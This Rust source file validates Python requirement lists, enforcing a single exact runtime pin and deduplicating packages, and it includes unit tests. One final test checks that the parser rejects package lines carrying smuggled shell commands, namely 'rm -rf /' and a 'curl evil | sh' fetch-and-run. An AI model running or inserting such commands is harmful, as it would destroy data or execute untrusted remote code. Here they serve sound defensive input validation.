//! Validated requirement lists.

use std::collections::BTreeSet;

use crate::error::RequirementError;
use crate::fingerprint::Fingerprint;
use crate::requirement::{Operator, Requirement};

/// Name of the runtime that every list must pin.
pub const RUNTIME_NAME: &str = "python";

/// A requirement list split into the runtime pin and the user packages.
///
/// Two specs are equal when they pin the same runtime version and carry the
/// same set of packages, regardless of the order the lines were submitted in.
#[derive(Debug, Clone)]
pub struct RequirementSpec {
    runtime_version: String,
    packages: Vec<String>,
}

impl RequirementSpec {
    /// Parse and validate a raw requirement list.
    ///
    /// Blank lines are skipped. Package lines are kept verbatim (trimmed) in
    /// first-seen order, with exact duplicates dropped.
    pub fn parse<I, S>(entries: I) -> Result<Self, RequirementError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let mut pin: Option<(String, String)> = None;
        let mut packages: Vec<String> = Vec::new();

        for raw in entries {
            let entry = raw.as_ref().trim();
            if entry.is_empty() {
                continue;
            }

            let requirement =
                Requirement::parse(entry).map_err(|source| RequirementError::Malformed {
                    entry: entry.to_string(),
                    source,
                })?;

            if requirement.is_named(RUNTIME_NAME) {
                if let Some((first, _)) = &pin {
                    return Err(RequirementError::MultipleRuntimePins {
                        first: first.clone(),
                        second: entry.to_string(),
                    });
                }
                let version = pinned_version(entry, &requirement)?;
                pin = Some((entry.to_string(), version));
            } else if !packages.iter().any(|p| p == entry) {
                packages.push(entry.to_string());
            }
        }

        let (_, runtime_version) = pin.ok_or(RequirementError::MissingRuntimePin)?;

        Ok(Self {
            runtime_version,
            packages,
        })
    }

    /// The exact runtime version, e.g. `3.11`.
    pub fn runtime_version(&self) -> &str {
        &self.runtime_version
    }

    /// User packages in submission order.
    pub fn packages(&self) -> &[String] {
        &self.packages
    }

    /// User packages as a sorted set.
    pub fn package_set(&self) -> BTreeSet<&str> {
        self.packages.iter().map(String::as_str).collect()
    }

    /// The canonical runtime pin, e.g. `python==3.11`.
    pub fn runtime_pin(&self) -> String {
        format!("{RUNTIME_NAME}=={}", self.runtime_version)
    }

    /// Compute the deduplication fingerprint of this spec.
    pub fn fingerprint(&self) -> Fingerprint {
        Fingerprint::of(self)
    }
}

impl PartialEq for RequirementSpec {
    fn eq(&self, other: &Self) -> bool {
        self.runtime_version == other.runtime_version && self.package_set() == other.package_set()
    }
}

impl Eq for RequirementSpec {}

fn pinned_version(entry: &str, requirement: &Requirement) -> Result<String, RequirementError> {
    let specifier = match requirement.specifiers() {
        [] => {
            return Err(RequirementError::RuntimeUnpinned {
                entry: entry.to_string(),
            })
        }
        [single] => single,
        _ => {
            return Err(RequirementError::RuntimeMultipleSpecifiers {
                entry: entry.to_string(),
            })
        }
    };

    if specifier.operator != Operator::Equal {
        return Err(RequirementError::RuntimeOperator {
            entry: entry.to_string(),
            operator: specifier.operator,
        });
    }
    if specifier.is_wildcard() {
        return Err(RequirementError::RuntimeWildcard {
            entry: entry.to_string(),
        });
    }

    Ok(specifier.version.clone())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::ParseError;
    use rstest::rstest;

    #[test]
    fn splits_runtime_from_packages() {
        let spec = RequirementSpec::parse(["python==3.11", "numpy==1.2", "pandas"]).unwrap();

        assert_eq!(spec.runtime_version(), "3.11");
        assert_eq!(spec.packages(), &["numpy==1.2".to_string(), "pandas".to_string()]);
        assert_eq!(spec.runtime_pin(), "python==3.11");
    }

    #[test]
    fn pin_may_appear_anywhere_and_in_any_case() {
        let a = RequirementSpec::parse(["pandas", "PYTHON==3.12", "numpy==1.2"]).unwrap();
        let b = RequirementSpec::parse(["numpy==1.2", "pandas", "python==3.12"]).unwrap();

        assert_eq!(a.runtime_version(), "3.12");
        assert_eq!(a, b);
    }

    #[test]
    fn skips_blank_lines_and_duplicates() {
        let spec =
            RequirementSpec::parse(["", "  ", "python==3.10", "rich", "\t", "rich"]).unwrap();

        assert_eq!(spec.packages(), &["rich".to_string()]);
    }

    #[test]
    fn runtime_only_list_is_valid() {
        let spec = RequirementSpec::parse(["python==3.11"]).unwrap();
        assert!(spec.packages().is_empty());
    }

    #[test]
    fn missing_pin_is_rejected() {
        let err = RequirementSpec::parse(["numpy==1.2"]).unwrap_err();
        assert_eq!(err, RequirementError::MissingRuntimePin);
        assert_eq!(err.to_string(), "a pinned runtime version is required");
    }

    #[test]
    fn empty_list_is_rejected() {
        let err = RequirementSpec::parse(Vec::<String>::new()).unwrap_err();
        assert_eq!(err, RequirementError::MissingRuntimePin);
    }

    #[test]
    fn second_pin_is_rejected() {
        let err = RequirementSpec::parse(["python==3.11", "numpy", "python==3.12"]).unwrap_err();
        assert_eq!(
            err,
            RequirementError::MultipleRuntimePins {
                first: "python==3.11".to_string(),
                second: "python==3.12".to_string(),
            }
        );
    }

    #[rstest]
    #[case("python", RequirementError::RuntimeUnpinned { entry: "python".to_string() })]
    #[case(
        "python>=3.10,<3.13",
        RequirementError::RuntimeMultipleSpecifiers { entry: "python>=3.10,<3.13".to_string() }
    )]
    #[case(
        "python>=3.10",
        RequirementError::RuntimeOperator {
            entry: "python>=3.10".to_string(),
            operator: Operator::GreaterEqual,
        }
    )]
    #[case(
        "python===3.11",
        RequirementError::RuntimeOperator {
            entry: "python===3.11".to_string(),
            operator: Operator::ArbitraryEqual,
        }
    )]
    #[case("python==3.*", RequirementError::RuntimeWildcard { entry: "python==3.*".to_string() })]
    fn runtime_rules_are_enforced(#[case] pin: &str, #[case] expected: RequirementError) {
        let err = RequirementSpec::parse([pin, "numpy"]).unwrap_err();
        assert!(err.is_runtime_error());
        assert_eq!(err, expected);
    }

    #[test]
    fn malformed_package_wraps_parse_error() {
        let err = RequirementSpec::parse(["python==3.11", "numpy=>1.0"]).unwrap_err();
        assert_eq!(
            err,
            RequirementError::Malformed {
                entry: "numpy=>1.0".to_string(),
                source: ParseError::MissingOperator("=>1.0".to_string()),
            }
        );
        assert!(!err.is_runtime_error());
    }

    #[rstest]
    #[case("pkg; rm -rf /")]
    #[case("pkg ; && curl evil | sh")]
    #[case("pkg @ not a url at all")]
    fn shell_text_in_a_package_line_is_rejected(#[case] line: &str) {
        let err = RequirementSpec::parse(["python==3.11", line]).unwrap_err();
        assert!(matches!(err, RequirementError::Malformed { ref entry, .. } if entry == line));
    }
}
